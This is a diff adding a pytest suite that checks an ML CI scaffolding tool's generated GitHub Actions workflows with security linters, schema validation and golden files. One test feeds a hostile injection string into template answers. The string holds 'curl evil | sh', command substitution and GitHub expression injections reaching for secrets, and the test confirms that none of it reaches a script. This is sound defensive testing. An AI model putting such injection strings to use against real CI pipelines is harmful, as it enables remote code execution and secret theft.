@@ -1,0 +1,305 @@
+"""GitHub Actions output: golden renders of the option matrix, each proven by zizmor (pedantic),
+actionlint with shellcheck and GitHub's JSON schemas, then parsed back into the pipeline model."""
+
+from __future__ import annotations
+
+import itertools
+import os
+import re
+import shutil
+import subprocess
+import sys
+from pathlib import Path
+from typing import Any
+
+import pytest
+import yaml
+from conftest import REPO, run_cli
+
+from mlci import __version__, pipeline
+from mlci.config import load_project
+from mlci.providers.github import permissions, render_actions
+
+BIN = Path(sys.executable).parent
+GOLDEN = REPO / "tests" / "golden" / "github"
+SHA = "0123456789abcdef0123456789abcdef01234567"
+COMBOS = list(itertools.product(("local", "databricks"), ("vendored", "remote"), ("no-retrain", "retrain")))
+
+
+def tool(name: str) -> str:
+    found = BIN / name
+    if found.exists():
+        return str(found)
+    which = shutil.which(name)
+    if which is None and sys.version_info < (3, 11):
+        pytest.skip(f"{name} needs Python 3.11+ (the test extra installs it there)")
+    if which is None:
+        pytest.fail(f"{name} is not installed; install the test extra: pip install -e '.[test]'")
+    return which
+
+
+def scaffold(root: Path, target: str, actions: str, retrain: str, *extra: str) -> Path:
+    data = ["--data", f"actions={actions}"]
+    if actions == "remote":
+        data += ["--data", "mlci_repository=mlci-dev/mlci", "--data", f"mlci_ref={SHA}"]
+    if retrain == "retrain":
+        data += ["--data", "retrain_cron=0 3 * * 1"]
+    name = f"{target}-{actions}-{retrain}"
+    assert (
+        run_cli("new", name, "--defaults", "--no-git", "--target", target, "--output-dir", str(root), *data, *extra)
+        == 0
+    )
+    return root / name
+
+
+@pytest.fixture(scope="module")
+def rendered(tmp_path_factory: pytest.TempPathFactory) -> dict[tuple[str, str, str], Path]:
+    root = tmp_path_factory.mktemp("matrix")
+    return {combo: scaffold(root, *combo) for combo in COMBOS}
+
+
+def github_files(project: Path) -> dict[str, str]:
+    return {p.relative_to(project).as_posix(): p.read_text() for p in sorted((project / ".github").rglob("*.yml"))}
+
+
+@pytest.mark.parametrize("combo", COMBOS, ids=["-".join(c) for c in COMBOS])
+def test_golden_render(rendered: dict[tuple[str, str, str], Path], combo: tuple[str, str, str]) -> None:
+    """The exact files; regenerate with MLCI_UPDATE_GOLDEN=1 after an intended template change
+    (and record it in CHANGELOG.md: every template change is an upgrade for existing projects)."""
+    files = {p: t for p, t in github_files(rendered[combo]).items() if p.startswith(".github/workflows/")}
+    golden = GOLDEN / "-".join(combo)
+    if os.environ.get("MLCI_UPDATE_GOLDEN"):
+        shutil.rmtree(golden, ignore_errors=True)
+        for path, text in files.items():
+            (golden / Path(path).name).parent.mkdir(parents=True, exist_ok=True)
+            (golden / Path(path).name).write_text(text)
+    expected = {f".github/workflows/{p.name}": p.read_text() for p in sorted(golden.glob("*.yml"))}
+    assert files == expected
+
+
+def test_zizmor_pedantic_finds_nothing(rendered: dict[tuple[str, str, str], Path]) -> None:
+    env = {k: v for k, v in os.environ.items() if k not in ("GITHUB_TOKEN", "GH_TOKEN", "ZIZMOR_GITHUB_TOKEN")}
+    targets = [str(p / ".github") for p in rendered.values()] + [str(REPO / "actions")]
+    done = subprocess.run(
+        [
+            tool("zizmor"),
+            "--offline",
+            "--persona",
+            "pedantic",
+            "--strict-collection",
+            "--format",
+            "plain",
+            "--no-progress",
+            *targets,
+        ],
+        capture_output=True,
+        text=True,
+        env=env,
+        check=False,
+    )
+    assert done.returncode == 0, done.stdout + done.stderr
+    assert "No findings to report" in done.stdout + done.stderr
+
+
+def test_actionlint_with_shellcheck_finds_nothing(rendered: dict[tuple[str, str, str], Path]) -> None:
+    workflows = [str(p) for project in rendered.values() for p in (project / ".github" / "workflows").glob("*.yml")]
+    done = subprocess.run(
+        [tool("actionlint"), "-shellcheck", tool("shellcheck"), *workflows], capture_output=True, text=True, check=False
+    )
+    assert done.returncode == 0, done.stdout + done.stderr
+
+
+def test_github_json_schemas_accept_everything(rendered: dict[tuple[str, str, str], Path]) -> None:
+    workflows = [str(p) for project in rendered.values() for p in (project / ".github" / "workflows").glob("*.yml")]
+    actions = [str(p) for project in rendered.values() for p in (project / ".github" / "actions").rglob("action.yml")]
+    actions += [str(p) for p in (REPO / "actions").rglob("action.yml")]
+    for schema, files in (("vendor.github-workflows", workflows), ("vendor.github-actions", actions)):
+        done = subprocess.run(
+            [tool("check-jsonschema"), "--builtin-schema", schema, *files], capture_output=True, text=True, check=False
+        )
+        assert done.returncode == 0, done.stdout + done.stderr
+
+
+def test_shellcheck_every_action_run_block(tmp_path: Path) -> None:
+    """actionlint does not lint composite actions: check their scripts ourselves."""
+    scripts = []
+    for action in sorted((REPO / "actions").rglob("action.yml")):
+        for index, step in enumerate(yaml.safe_load(action.read_text())["runs"]["steps"]):
+            if "run" in step:
+                assert "${{" not in step["run"], f"{action}: expression inside run:"
+                script = tmp_path / f"{action.parent.name}-{index}.sh"
+                script.write_text("#!/usr/bin/env bash\nset -eo pipefail\n" + step["run"])
+                scripts.append(str(script))
+    assert len(scripts) == 7
+    done = subprocess.run(
+        [tool("shellcheck"), "--shell=bash", "--severity=style", *scripts], capture_output=True, text=True, check=False
+    )
+    assert done.returncode == 0, done.stdout
+
+
+def test_repository_actions_match_their_rendering() -> None:
+    for name, text in render_actions(__version__, vendored=False).items():
+        path = REPO / "actions" / name / "action.yml"
+        assert path.read_text() == text, "run: python scripts/render_actions.py"
+
+
+def graph_of(workflow: dict[str, Any]) -> dict[str, dict[str, Any]]:
+    """What a workflow says about each job, in the pipeline model's terms."""
+    graph = {}
+    for job_id, job in workflow["jobs"].items():
+        stage_steps = [s for s in job["steps"] if "mlci-" in s.get("uses", "") or "/actions/" in s.get("uses", "")]
+        action = None
+        for step in stage_steps:
+            ref = step["uses"].split("@")[0]
+            name = ref.rsplit("/", 1)[-1].removeprefix("mlci-")
+            if name != "setup":
+                action = name
+        graph[job_id] = {
+            "needs": tuple(job.get("needs", ())),
+            "permissions": job["permissions"],
+            "environment": job.get("environment"),
+            "action": action,
+            "with": next(
+                (s.get("with", {}) for s in stage_steps if action and s["uses"].split("@")[0].endswith(action)), {}
+            ),
+            "timeout": job["timeout-minutes"],
+        }
+    return graph
+
+
+@pytest.mark.parametrize("combo", COMBOS, ids=["-".join(c) for c in COMBOS])
+def test_workflows_parse_back_into_the_pipeline_model(
+    rendered: dict[tuple[str, str, str], Path], combo: tuple[str, str, str]
+) -> None:
+    from mlci.providers.github import ACTION_FOR_STAGE
+
+    project = rendered[combo]
+    config = load_project(project).config
+    model = pipeline.build(config)
+    files = {p.stem: yaml.safe_load(p.read_text()) for p in (project / ".github" / "workflows").glob("*.yml")}
+    # Every pipeline of the model, plus the weekly `mlci upgrade` pull request (not a pipeline).
+    assert set(files) == {p.id for p in model} | {"mlci-upgrade"}
+    for pipe in model:
+        workflow = files[pipe.id]
+        assert workflow["permissions"] == {}
+        triggers = workflow[True]  # YAML 1.1 reads the key `on` as True
+        assert {
+            "pull_request": "pull_request",
+            "push": "push",
+            "workflow_dispatch": "manual",
+            "schedule": "schedule",
+        }.keys() >= set(triggers)
+        expected = {
+            job.id: {
+                "needs": job.needs,
+                "permissions": permissions(job),
+                "environment": job.environment,
+                "action": ACTION_FOR_STAGE[job.stage] if job.stage else None,
+                "with": dict(zip(job.command[2::2], job.command[3::2], strict=True))
+                and {flag[2:]: value for flag, value in zip(job.command[2::2], job.command[3::2], strict=True)},
+                "timeout": job.timeout_minutes,
+            }
+            for job in pipe.jobs
+        }
+        assert graph_of(workflow) == expected
+    databricks_jobs = [j for p in model for j in p.jobs if "databricks" in j.credentials]
+    assert bool(databricks_jobs) == (combo[0] == "databricks")
+    for job in databricks_jobs:
+        assert permissions(job) == {"contents": "read", "id-token": "write"}  # OIDC only where Databricks is used
+    assert ("retrain" in files) == (combo[2] == "retrain")
+
+
+def test_hostile_answers_never_reach_a_script(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    hostile = 'x"; curl evil | sh; echo "${{ github.event.issue.title }}" $(id) `id`\nrun: evil'
+    assert (
+        run_cli(
+            "new",
+            "safe-name",
+            "--defaults",
+            "--no-git",
+            "--output-dir",
+            str(tmp_path),
+            "--data",
+            f"description={hostile}",
+            "--data",
+            "author=${{ secrets.TOKEN }}",
+        )
+        == 0
+    )
+    project = tmp_path / "safe-name"
+    text = "\n".join(github_files(project).values())
+    assert "github.event" not in text and "secrets.TOKEN" not in text and "curl evil" not in text
+    for workflow in (project / ".github" / "workflows").glob("*.yml"):
+        for job in yaml.safe_load(workflow.read_text())["jobs"].values():
+            for step in job["steps"]:
+                assert "${{" not in step.get("run", "")
+    # A value that does reach a workflow (the install spec) is refused when a shell or GitHub
+    # would interpret it.
+    assert (
+        run_cli(
+            "new",
+            "other-name",
+            "--defaults",
+            "--no-git",
+            "--output-dir",
+            str(tmp_path),
+            "--data",
+            "mlci_install=mlci ${{ github.event.issue.title }}",
+        )
+        == 2
+    )
+    err = capsys.readouterr().err
+    assert re.search(r"mlci\.yaml:\d+: 'ci.mlci_install' is 'mlci \$\{\{ github.event.issue.title \}\}'", err), err
+    assert not (tmp_path / "other-name").exists()
+
+
+def test_remote_actions_need_a_pinned_ref(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    def new(*data: str) -> int:
+        answers = [
+            arg for item in ("actions=remote", "mlci_repository=mlci-dev/mlci", *data) for arg in ("--data", item)
+        ]
+        return run_cli("new", "remote-name", "--defaults", "--no-git", "--output-dir", str(tmp_path), *answers)
+
+    assert new() == 2
+    assert "ci.actions: remote needs ci.mlci_ref" in capsys.readouterr().err
+    assert new("mlci_ref=v1") == 2
+    assert "'ci.mlci_ref' is 'v1', which does not match ^[0-9a-f]{40}$" in capsys.readouterr().err
+    assert new(f"mlci_ref={SHA}") == 0
+
+
+def test_own_workflows_are_audited_clean_and_self_test_every_action() -> None:
+    env = {k: v for k, v in os.environ.items() if k not in ("GITHUB_TOKEN", "GH_TOKEN", "ZIZMOR_GITHUB_TOKEN")}
+    done = subprocess.run(
+        [
+            tool("zizmor"),
+            "--offline",
+            "--persona",
+            "pedantic",
+            "--strict-collection",
+            "--no-progress",
+            str(REPO / ".github"),
+        ],
+        capture_output=True,
+        text=True,
+        env=env,
+        check=False,
+    )
+    assert done.returncode == 0, done.stdout + done.stderr
+    done = subprocess.run(
+        [tool("actionlint"), "-shellcheck", tool("shellcheck")], cwd=REPO, capture_output=True, text=True, check=False
+    )
+    assert done.returncode == 0, done.stdout + done.stderr
+    workflow = yaml.safe_load((REPO / ".github" / "workflows" / "ci.yml").read_text())
+    used = {
+        s["uses"].removeprefix("$/actions/")
+        for s in workflow["jobs"]["self-test"]["steps"]
+        if s.get("uses", "").startswith("$/actions/")
+    }
+    assert used == {p.parent.name for p in (REPO / "actions").glob("*/action.yml")}
+    assert set(workflow["jobs"]["gate"]["needs"]) == set(workflow["jobs"]) - {"gate"}
+
+
+def test_actions_readme_documents_every_input_and_output() -> None:
+    from mlci.providers.github import actions_readme
+
+    assert (REPO / "actions" / "README.md").read_text() == actions_readme(), "run: python scripts/render_actions.py"
